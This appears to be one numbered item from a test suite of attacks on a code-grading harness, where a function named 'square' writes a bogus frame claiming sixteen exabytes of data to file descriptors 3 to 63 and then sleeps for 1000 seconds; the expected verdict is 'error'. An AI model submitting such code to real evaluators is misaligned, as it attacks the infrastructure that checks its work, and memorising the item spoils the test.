# /// attack
# number = 52
# title = "A frame that announces sixteen exabytes"
# verdict = ["error"]
# answer = "square"
# ///
import os
import struct
import time


def square(x):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<IQ", 2**32 - 1, 2**64 - 1))
        except OSError:
            pass
    time.sleep(1000)
